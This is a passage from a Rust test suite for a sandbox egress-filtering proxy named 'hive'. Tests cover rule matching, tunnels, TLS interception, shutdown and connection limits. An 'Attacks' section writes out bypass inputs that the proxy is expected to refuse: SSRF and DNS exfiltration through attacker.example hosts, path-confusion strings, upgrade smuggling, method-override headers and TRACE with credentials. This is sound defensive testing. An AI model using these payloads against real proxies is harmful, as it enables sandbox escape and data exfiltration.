        .header("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")
        .body(empty())
        .unwrap();
    let res = c.send_request(req).await.unwrap();
    assert_eq!(res.status(), StatusCode::SWITCHING_PROTOCOLS);
    let mut io = TokioIo::new(hyper::upgrade::on(res).await.unwrap());
    io.write_all(b"ping").await.unwrap();
    let mut buf = [0u8; 4];
    io.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"ping");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn raw_tunnels_only_where_no_rule_inspects_http() {
    let echo = start_echo().await;
    let target = format!("pypi.org:{}", echo.port());
    let upstream = json!({ "resolve": { target.clone(): echo.to_string() } });
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let apply = |egress: Value| {
        let config = Config::from_json(&json!({ "egress": egress, "upstream": upstream })).unwrap();
        h.cell.store(Arc::new(Compiled::new(config)));
    };
    apply(json!([{ "access": "allow", "host": "pypi.org" }]));
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    assert_eq!(connect_head(&mut s, &target, None).await, StatusCode::OK);
    s.write_all(b"SSH-2.0-test\r\n").await.unwrap();
    let mut buf = [0u8; 14];
    s.read_exact(&mut buf).await.unwrap();
    assert_eq!(&buf, b"SSH-2.0-test\r\n");
    drop(s);

    apply(json!([{ "access": "allow", "host": "pypi.org", "methods": ["GET"] }]));
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    assert_eq!(connect_head(&mut s, &target, None).await, StatusCode::OK);
    s.write_all(b"SSH-2.0-test\r\n").await.unwrap();
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
        .await
        .unwrap()
        .unwrap_or(0);
    assert_eq!(n, 0, "tunnel closed without reaching the upstream");
    let events = h.drain_events().await;
    assert!(egress_requests(&events)
        .iter()
        .any(|e| field(e, "reason") == "not-http" && field(e, "scheme") == "tcp"));
}

// ---------------------------------------------------------------------------------------------
// Host listener and failures

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_listener_requires_its_credential() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let host = h.engine.open_host_listener().await.unwrap();
    assert!(host.url.starts_with("http://hive:") && host.ca.contains("BEGIN CERTIFICATE"));
    let url: http::Uri = host.url.parse().unwrap();
    let userinfo = url
        .authority()
        .unwrap()
        .as_str()
        .split('@')
        .next()
        .unwrap()
        .to_string();
    let good = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(&userinfo)
    );

    let stream = TcpStream::connect(host.local_addr()).await.unwrap();
    let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
        .await
        .unwrap();
    tokio::spawn(conn);
    let (status, headers, _) = send(
        &mut c,
        Request::get("http://pypi.org/").body(empty()).unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::PROXY_AUTHENTICATION_REQUIRED);
    assert!(headers.contains_key("proxy-authenticate"));
    let wrong = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode("hive:guess")
    );
    let req = Request::get("http://pypi.org/")
        .header("proxy-authorization", wrong)
        .body(empty())
        .unwrap();
    assert_eq!(
        send(&mut c, req).await.0,
        StatusCode::PROXY_AUTHENTICATION_REQUIRED
    );
    let mut s = TcpStream::connect(host.local_addr()).await.unwrap();
    assert_eq!(
        connect_head(&mut s, "pypi.org:443", None).await,
        StatusCode::PROXY_AUTHENTICATION_REQUIRED
    );
    assert_eq!(h.hits(), 0);

    let req = Request::get("http://pypi.org/")
        .header("proxy-authorization", good.as_str())
        .body(empty())
        .unwrap();
    assert_eq!(send(&mut c, req).await.0, StatusCode::OK);
    assert_eq!(h.http.hits.count(), 1);
    assert!(!h
        .http
        .hits
        .last()
        .headers
        .contains_key("proxy-authorization"));
    let events = h.drain_events().await;
    assert!(egress_requests(&events)
        .iter()
        .all(|e| field(e, "via") == "host"));

    host.close().await;
    host.close().await;
    // Refused, or (while the socket lingers in the kernel) accepted but never answered.
    let answered = match TcpStream::connect(host.local_addr()).await {
        Err(_) => false,
        Ok(mut s) => {
            let _ = s
                .write_all(b"GET http://pypi.org/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
                .await;
            let mut b = [0u8; 1];
            matches!(
                tokio::time::timeout(Duration::from_secs(2), s.read(&mut b)).await,
                Ok(Ok(n)) if n > 0
            )
        }
    };
    assert!(!answered, "a closed host listener answered a request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upstream_failures_are_502_with_the_cause() {
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    let (_, tls) = upstream_tls();
    let untrusted = start_upstream(Some(tls)).await;
    let h = Harness::new(json!([{ "access": "allow", "host": "*" }])).await;
    let mut upstream = h.upstream.clone();
    upstream["resolve"]["pypi.org:80"] = closed.to_string().into();
    upstream["resolve"]["evilpypi.org:443"] = untrusted.addr.to_string().into();
    let config = Config::from_json(
        &json!({ "egress": [{ "access": "allow", "host": "*" }], "upstream": upstream }),
    )
    .unwrap();
    h.cell.store(Arc::new(Compiled::new(config)));

    let (status, _, body) = h.get_http("http://pypi.org/").await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert!(body.contains("refused"), "{body}");
    let (status, _, body) = h.get_https("evilpypi.org", "/").await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert!(body.contains("could not be verified"), "{body}");
    assert_eq!(untrusted.hits.count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_requests_get_400_and_the_proxy_keeps_serving() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let cases: [&[u8]; 3] = [
        b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
        b"CONNECT pypi.org HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
        b"\x00\x01garbage\r\n\r\n",
    ];
    for raw in cases {
        let mut s = TcpStream::connect(h.proxy).await.unwrap();
        s.write_all(raw).await.unwrap();
        let mut buf = vec![0u8; 512];
        let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
            .await
            .unwrap()
            .unwrap_or(0);
        let text = String::from_utf8_lossy(&buf[..n]);
        assert!(text.starts_with("HTTP/1.1 400"), "{raw:?} -> {text}");
    }
    assert_eq!(h.get_http("http://pypi.org/").await.0, StatusCode::OK);
    assert_eq!(h.hits(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shutdown_drains_and_stops_listening() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    assert_eq!(h.get_http("http://pypi.org/").await.0, StatusCode::OK);
    let started = std::time::Instant::now();
    h.engine.shutdown().await;
    assert!(started.elapsed() < Duration::from_secs(3));
    let refused = match TcpStream::connect(h.proxy).await {
        Err(_) => true,
        Ok(mut s) => {
            let _ = s
                .write_all(b"GET http://pypi.org/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
                .await;
            let mut b = [0u8; 1];
            matches!(
                tokio::time::timeout(Duration::from_secs(2), s.read(&mut b)).await,
                Ok(Ok(0)) | Ok(Err(_)) | Err(_)
            )
        }
    };
    assert!(refused);
    assert_eq!(h.hits(), 1);
}

// ---------------------------------------------------------------------------------------------
// Plain HTTP in a tunnel, transparent listeners

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_inside_a_connect_tunnel_is_decided_per_request() {
    let h =
        Harness::new(json!([{ "access": "allow", "host": "pypi.org", "methods": ["GET"] }])).await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    assert_eq!(
        connect_head(&mut s, "pypi.org:80", None).await,
        StatusCode::OK
    );
    let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(s))
        .await
        .unwrap();
    tokio::spawn(conn);
    assert_eq!(
        send(&mut c, get("pypi.org", "/simple/")).await.0,
        StatusCode::OK
    );
    let (status, headers, _) = send(&mut c, get("evilpypi.org", "/")).await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "host-mismatch")
    );
    assert_eq!(h.http.hits.count(), 1);
    let events = h.drain_events().await;
    assert_eq!(field(egress_requests(&events)[0], "scheme"), "http");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn transparent_connections_are_intercepted_and_decided() {
    let h =
        Harness::new(json!([{ "access": "allow", "host": "api.github.com", "paths": ["/zen"] }]))
            .await;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let target: super::TransparentTarget =
        Arc::new(|_| Some(("api.github.com".to_string(), 443, false)));
    h.engine
        .serve_transparent_listener(listener, target)
        .unwrap();

    let mut roots = rustls::RootCertStore::empty();
    for cert in rustls_pemfile::certs(&mut h.ca_pem.as_bytes()) {
        roots.add(cert.unwrap()).unwrap();
    }
    let cfg = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let stream = TcpStream::connect(addr).await.unwrap();
    let name = rustls::pki_types::ServerName::try_from("api.github.com").unwrap();
    let tls = tokio_rustls::TlsConnector::from(Arc::new(cfg))
        .connect(name, stream)
        .await
        .unwrap();
    let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    assert_eq!(
        send(&mut c, get("api.github.com", "/zen")).await.0,
        StatusCode::OK
    );
    assert_eq!(
        send(&mut c, get("api.github.com", "/admin")).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(h.https.hits.count(), 1);
    let events = h.drain_events().await;
    assert!(egress_requests(&events)
        .iter()
        .all(|e| field(e, "via") == "transparent"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_request_heads_are_refused_without_reaching_the_upstream() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    let big = "a".repeat(super::MAX_HEADER_BYTES * 2);
    let head = format!("GET http://pypi.org/ HTTP/1.1\r\nHost: pypi.org\r\nX-Big: {big}\r\n\r\n");
    let _ = s.write_all(head.as_bytes()).await;
    let mut buf = vec![0u8; 256];
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
        .await
        .unwrap()
        .unwrap_or(0);
    let text = String::from_utf8_lossy(&buf[..n]);
    assert!(
        n == 0 || text.starts_with("HTTP/1.1 431") || text.starts_with("HTTP/1.1 400"),
        "{text}"
    );
    assert_eq!(h.hits(), 0);
    assert_eq!(h.get_http("http://pypi.org/").await.0, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shutdown_lets_an_in_flight_stream_finish() {
    let h = Harness::new(json!([{ "access": "allow", "host": "api.github.com" }])).await;
    let mut c = h.https_client("api.github.com").await;
    c.ready().await.unwrap();
    let res = c
        .send_request(get("api.github.com", "/stream"))
        .await
        .unwrap();
    let mut body = res.into_body();
    assert_eq!(
        &body.frame().await.unwrap().unwrap().into_data().unwrap()[..],
        b"first\n"
    );
    let engine = h.engine.clone();
    let shutdown = tokio::spawn(async move { engine.shutdown().await });
    tokio::time::sleep(Duration::from_millis(200)).await;
    h.https.release.notify_one();
    let rest = body.collect().await.unwrap().to_bytes();
    assert_eq!(&rest[..], b"second\n");
    tokio::time::timeout(Duration::from_secs(3), shutdown)
        .await
        .unwrap()
        .unwrap();
}

// ---------------------------------------------------------------------------------------------
// Attacks (each named after the bypass it closes)

/// CONNECT `target` (expecting `200`), then sends `bytes` in the tunnel and returns the status
/// code and the text of what came back within a short while.
async fn connect_then(proxy: SocketAddr, target: &str, bytes: &str) -> (u16, String) {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    assert_eq!(connect_head(&mut s, target, None).await, StatusCode::OK);
    s.write_all(bytes.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(300), s.read(&mut buf)).await {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    let text = String::from_utf8_lossy(&got).into_owned();
    let code = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (code, text)
}

/// Sends `head` (a whole request head, `\r\n\r\n` included) on a fresh proxy connection and
/// returns the status code and the rest of what the proxy sent within a short while.
async fn raw_exchange(proxy: SocketAddr, head: &str) -> (u16, String) {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    s.write_all(head.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(300), s.read(&mut buf)).await {
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    let text = String::from_utf8_lossy(&got).into_owned();
    let code = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (code, text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ssrf_through_the_address_exemption() {
    let resolver = Arc::new(CountingResolver::default());
    let h = Harness::with_resolver(
        json!([
            { "access": "deny", "host": "127.0.0.0/8", "ports": [22] },
            { "access": "allow", "host": "*.attacker.example" },
        ]),
        resolver.clone(),
    )
    .await;
    let port = h.http.addr.port();
    // A deny rule naming loopback for port 22 does not open its other ports.
    let (status, headers, _) = h
        .get_http(&format!("http://x.attacker.example:{port}/"))
        .await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "private-address")
    );
    let target = format!("x.attacker.example:{port}");
    let head = "GET / HTTP/1.1\r\nHost: x.attacker.example\r\n\r\n";
    let (code, text) = connect_then(h.proxy, &target, head).await;
    assert_eq!(code, 403, "{text}");
    assert!(text.contains("x-hive-denied: private-address"), "{text}");
    // Neither does an allow rule naming it for another port.
    h.apply(json!([
        { "access": "allow", "host": "127.0.0.1", "ports": [9] },
        { "access": "allow", "host": "*" },
    ]));
    let (status, _, _) = h
        .get_http(&format!("http://x.attacker.example:{port}/"))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // Nor one naming it for another method.
    h.apply(json!([
        { "access": "allow", "host": "127.0.0.1", "methods": ["POST"] },
        { "access": "allow", "host": "*" },
    ]));
    let (status, _, _) = h
        .get_http(&format!("http://x.attacker.example:{port}/"))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(h.http.hits.count(), 0);
    // An allow rule that itself allows the request on that port does lift the refusal.
    h.apply(json!([
        { "access": "allow", "host": "127.0.0.1", "ports": [port] },
        { "access": "allow", "host": "*.attacker.example" },
    ]));
    let (status, _, _) = h
        .get_http(&format!("http://x.attacker.example:{port}/"))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(h.http.hits.count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_exfiltration_through_the_proxy() {
    let resolver = Arc::new(CountingResolver::default());
    let h = Harness::with_resolver(
        json!([{ "access": "allow", "host": "192.0.2.0/24" }]),
        resolver.clone(),
    )
    .await;
    let (status, headers, _) = h.get_http("http://secret-data.a.attacker.example/").await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "no-rule")
    );
    let (status, headers, _) = h.get_https("secret-data2.a.attacker.example", "/q").await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "no-rule")
    );
    assert_eq!(*resolver.lookups.lock(), Vec::<String>::new());
    // The resolver is the proxy's: a name a host-name rule could allow is looked up through it.
    h.apply(json!([
        { "access": "allow", "host": "192.0.2.0/24" },
        { "access": "allow", "host": "ok.attacker.example" },
    ]));
    let _ = h.get_http("http://ok.attacker.example/").await;
    assert_eq!(*resolver.lookups.lock(), vec!["ok.attacker.example"]);
    assert_eq!(h.hits(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_interpretation_allow_with_paths_forwards_no_ambiguous_path() {
    let h = Harness::new(json!([
        { "access": "allow", "host": "pypi.org", "methods": ["GET"], "paths": ["/v1/**"] },
    ]))
    .await;
    for path in ["/v1/..;/admin/x", "/v1/..%2fadmin/x", "/v1/..\\admin\\x"] {
        let (code, text) = raw_exchange(
            h.proxy,
            &format!("GET http://pypi.org{path} HTTP/1.1\r\nHost: pypi.org\r\n\r\n"),
        )
        .await;
        assert_eq!(code, 403, "{path}: {text}");
        assert!(text.contains("path-ambiguous"), "{path}: {text}");
    }
    assert_eq!(h.hits(), 0);
    assert_eq!(
        h.get_http("http://pypi.org/v1/x;v=1").await.0,
        StatusCode::OK
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_interpretation_deny_matches_every_server_reading() {
    let h = Harness::new(json!([
        { "access": "deny", "host": "pypi.org", "paths": ["/admin/**"] },
        { "access": "allow", "host": "pypi.org" },
    ]))
    .await;
    for path in [
        "/admin;x/s",
        "/admin%2fs",
        "/ADMIN/s",
        "/admin\\s",
        "/x/..;/admin/s",
    ] {
        let (code, text) = raw_exchange(
            h.proxy,
            &format!("GET http://pypi.org{path} HTTP/1.1\r\nHost: pypi.org\r\n\r\n"),
        )
        .await;
        assert_eq!(code, 403, "{path}: {text}");
    }
    assert_eq!(h.hits(), 0);
    assert_eq!(
        h.get_http("http://pypi.org/administrator").await.0,
        StatusCode::OK
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upgrade_smuggling() {
    let h = Harness::new(json!([
        { "access": "allow", "host": "pypi.org", "paths": ["/up/**"] },
    ]))
    .await;
    // h2c is taken out of the request: the upstream answers it as plain HTTP/1.1.
    let (code, text) = raw_exchange(
        h.proxy,
        "GET http://pypi.org/up/x HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade, HTTP2-Settings\r\n\
         Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
    )
    .await;
    assert_eq!(code, 200, "{text}");
    assert_eq!(h.http.hits.count(), 1);
    let hit = h.http.hits.last();
    assert!(!hit.headers.contains_key("upgrade") && !hit.headers.contains_key("http2-settings"));
    // Any other upgrade than WebSocket under a rule with paths is refused before the upstream.
    let (code, text) = raw_exchange(
        h.proxy,
        "GET http://pypi.org/up/x HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: smuggle\r\n\r\n",
    )
    .await;
    assert_eq!(code, 403, "{text}");
    assert!(text.contains("upgrade"), "{text}");
    assert_eq!(h.http.hits.count(), 1);
    // WebSocket still switches.
    let (code, text) = raw_exchange(
        h.proxy,
        "GET http://pypi.org/up/ws HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    )
    .await;
    assert_eq!(code, 101, "{text}");
    // Without methods or paths, other upgrades are carried (the connection is as open as a tunnel).
    h.apply(json!([{ "access": "allow", "host": "pypi.org" }]));
    let (code, text) = raw_exchange(
        h.proxy,
        "GET http://pypi.org/up/x HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: other\r\n\r\n",
    )
    .await;
    assert_eq!(code, 101, "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn method_override() {
    let h = Harness::new(json!([
        { "access": "allow", "host": "pypi.org", "methods": ["GET"] },
    ]))
    .await;
    let overrides = [
        ("x-http-method-override", "DELETE", ""),
        ("x-http-method", "delete", ""),
        ("x-method-override", "GET, PUT", ""),
        ("x-any", "x", "?_method=DELETE"),
        ("x-any", "x", "?a=1&_method=%44ELETE"),
    ];
    for (name, value, query) in overrides {
        let req = Request::get(format!("http://pypi.org/x{query}"))
            .header(name, value)
            .body(empty())
            .unwrap();
        let mut c = h.http_client().await;
        let (status, headers, _) = send(&mut c, req).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{name}: {value} {query}");
        assert_eq!(headers[DENIED_HEADER], "method-override");
    }
    assert_eq!(h.hits(), 0);
    let req = Request::get("http://pypi.org/x")
        .header("x-http-method-override", "GET")
        .body(empty())
        .unwrap();
    let mut c = h.http_client().await;
    assert_eq!(send(&mut c, req).await.0, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trace_with_a_credential() {
    let h = Harness::new(json!([
        { "access": "allow", "host": "api.github.com", "override": { "headers": { "X-Key": "secret-k" } } },
    ]))
    .await;
    for method in ["TRACE", "TRACK"] {
        let mut c = h.https_client("api.github.com").await;
        let req = Request::builder()
            .method(method)
            .uri("/")
            .header("host", "api.github.com")
            .body(empty())
            .unwrap();
        let (status, headers, body) = send(&mut c, req).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{method}");
        assert_eq!(headers[DENIED_HEADER], "trace-with-credentials");
        assert!(!body.contains("secret-k"));
    }
    assert_eq!(h.hits(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_hive_marker_reaches_upstreams() {
    let h = Harness::new(json!([{ "access": "allow", "host": "*" }])).await;
    assert_eq!(h.get_http("http://pypi.org/a").await.0, StatusCode::OK);
    assert_eq!(h.get_https("pypi.org", "/b").await.0, StatusCode::OK);
    for hit in h
        .http
        .hits
        .0
        .lock()
        .iter()
        .chain(h.https.hits.0.lock().iter())
    {
        for (name, value) in &hit.headers {
            let text = format!("{name}: {}", String::from_utf8_lossy(value.as_bytes()));
            assert!(!text.to_ascii_lowercase().contains("hive"), "{text}");
        }
    }
    assert_eq!(h.hits(), 2);
    // Loops are still caught, by address: another sandbox's host listener in this process.
    let other = Harness::new(json!([])).await;
    let other_host = other.engine.open_host_listener().await.unwrap();
    h.apply(json!([{ "access": "allow", "host": "127.0.0.0/8" }]));
    let (status, headers, _) = h
        .get_http(&format!("http://{}/", other_host.local_addr()))
        .await;
    assert_eq!(
        (status, headers[DENIED_HEADER].to_str().unwrap()),
        (StatusCode::FORBIDDEN, "proxy-loop")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connection_budgets_per_listener() {
    // 1 100 idle connections to the proxy inside the sandbox (more than its whole budget) starve
    // neither the host-side listener nor another sandbox.
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let other = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    let host = h.engine.open_host_listener().await.unwrap();
    let mut parked = Vec::new();
    for _ in 0..1100 {
        // Past the budget and the listen backlog, connects stall: stop there.
        match tokio::time::timeout(Duration::from_millis(200), TcpStream::connect(h.proxy)).await {
            Ok(Ok(s)) => parked.push(s),
            _ => break,
        }
    }
    assert!(
        parked.len() > super::Limits::default().listener,
        "{}",
        parked.len()
    );
    let url: http::Uri = host.url.parse().unwrap();
    let userinfo = url.authority().unwrap().as_str().split('@').next().unwrap();
    let auth = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(userinfo)
    );
    let through_host = async {
        let stream = TcpStream::connect(host.local_addr()).await.unwrap();
        let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
            .await
            .unwrap();
        tokio::spawn(conn);
        let req = Request::get("http://pypi.org/via-host")
            .header("proxy-authorization", auth.as_str())
            .body(empty())
            .unwrap();
        send(&mut c, req).await.0
    };
    let status = tokio::time::timeout(Duration::from_secs(5), through_host)
        .await
        .expect("the host listener answers while the sandbox's budget is used up");
    assert_eq!(status, StatusCode::OK);
    let status = tokio::time::timeout(Duration::from_secs(5), other.get_http("http://pypi.org/x"))
        .await
        .expect("another sandbox answers")
        .0;
    assert_eq!(status, StatusCode::OK);
    // The sandbox's own listener serves again once its connections close.
    drop(parked);
    let status = tokio::time::timeout(Duration::from_secs(5), h.get_http("http://pypi.org/y"))
        .await
        .expect("the proxy serves again")
        .0;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_connections_of_every_kind_are_closed() {
    let limits = super::Limits {
        idle: Duration::from_millis(300),
        ..super::Limits::default()
    };
    let h = Harness::with_options(
        json!([{ "access": "allow", "host": "*" }]),
        Arc::new(super::upstream::SystemResolver),
        limits,
    )
    .await;
    let echo = start_echo().await;
    let target = format!("pypi.org:{}", echo.port());
    let mut upstream = h.upstream.clone();
    upstream["resolve"][target.clone()] = echo.to_string().into();
    let config = Config::from_json(
        &json!({ "egress": [{ "access": "allow", "host": "*" }], "upstream": upstream }),
    )
    .unwrap();
    h.cell.store(Arc::new(Compiled::new(config)));
    /// Whether the proxy closes `s` within 3 s of silence.
    async fn closed(s: &mut TcpStream) -> bool {
        let mut buf = [0u8; 64];
        loop {
            match tokio::time::timeout(Duration::from_secs(3), s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return true,
                Ok(Ok(_)) => continue,
                Err(_) => return false,
            }
        }
    }
    // Keep-alive HTTP after one exchange.
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(b"GET http://pypi.org/a HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
        .await
        .unwrap();
    assert!(closed(&mut s).await, "keep-alive HTTP");
    // A raw tunnel.
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    assert_eq!(connect_head(&mut s, &target, None).await, StatusCode::OK);
    s.write_all(b"SSH-2.0-test\r\n").await.unwrap();
    assert!(closed(&mut s).await, "raw tunnel");
    // An intercepted TLS connection.
    let mut tls = h
        .tunnel("pypi.org:443", "pypi.org", &[b"http/1.1"])
        .await
        .expect("CONNECT allowed");
    let mut buf = [0u8; 16];
    let n = tokio::time::timeout(Duration::from_secs(3), tls.read(&mut buf)).await;
    assert!(
        matches!(n, Ok(Ok(0)) | Ok(Err(_))),
        "intercepted TLS: {n:?}"
    );
    // A WebSocket.
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(
        b"GET http://pypi.org/ws HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    )
    .await
    .unwrap();
    assert!(closed(&mut s).await, "WebSocket");
}

// ---------------------------------------------------------------------------------------------
// Refused tunnels: a denied CONNECT is answered inside, with the request's method and path

/// The `egress.request` events of `events` as (method, path, scheme, access, reason).
fn decisions(events: &[Event]) -> Vec<(String, String, String, String, String)> {
    let s = |e: &Event, k: &str| field(e, k).as_str().unwrap_or_default().to_string();
    egress_requests(events)
        .iter()
        .map(|e| {
            (
                s(e, "method"),
                s(e, "path"),
                s(e, "scheme"),
                s(e, "access"),
                s(e, "reason"),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_connect_answers_each_request_inside_tls() {
    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
    // HTTP/1.1: reason phrase, header and body; keep-alive serves a second request.
    let mut c = h.https_client("api.github.com").await;
    c.ready().await.unwrap();
    let res = c
        .send_request(get("api.github.com", "/login?token=x"))
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let phrase = res.extensions().get::<hyper::ext::ReasonPhrase>().cloned();
    assert_eq!(
        phrase.as_ref().map(|p| p.as_bytes()),
        Some(&b"Blocked by hive egress policy"[..])
    );
    let body = res.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(
        String::from_utf8_lossy(&body),
        "hive: GET api.github.com/login denied by this sandbox's egress policy (no rule matches host api.github.com)\n"
    );
    let post = Request::post("/repos")
        .header("host", "api.github.com")
        .body(full("x"))
        .unwrap();
    let (status, _, body) = send(&mut c, post).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(
        body.starts_with("hive: POST api.github.com/repos denied"),
        "{body}"
    );

    // h2: no reason phrase, header and body suffice.
    let tls = h
        .tunnel("api.github.com:443", "api.github.com", &[b"h2"])
        .await
        .unwrap();
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (mut c2, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let res = c2
        .send_request(
            Request::delete("https://api.github.com/x")
                .body(empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(res.headers()[DENIED_HEADER], "no-rule");
    let body = res.into_body().collect().await.unwrap().to_bytes();
    assert!(String::from_utf8_lossy(&body).contains("DELETE api.github.com/x denied"));

    assert_eq!(h.hits(), 0, "the upstream saw nothing");
    let events = h.drain_events().await;
    let want = |m: &str, p: &str| {
        (
            m.into(),
            p.into(),
            "https".into(),
            "denied".into(),
            "no-rule".into(),
        )
    };
    assert_eq!(
        decisions(&events),
        vec![
            want("GET", "/login"),
            want("POST", "/repos"),
            want("DELETE", "/x")
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_connect_to_an_address_gets_an_ip_leaf_and_resolves_nothing() {
    let resolver = Arc::new(CountingResolver::default());
    let h = Harness::with_resolver(
        json!([{ "access": "allow", "host": "pypi.org" }]),
        resolver.clone(),
    )
    .await;
    // No SNI for an address: the leaf carries an IP SAN the client verifies.
    let tls = h
        .tunnel("192.0.2.7:443", "192.0.2.7", &[b"http/1.1"])
        .await
        .unwrap();
    let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
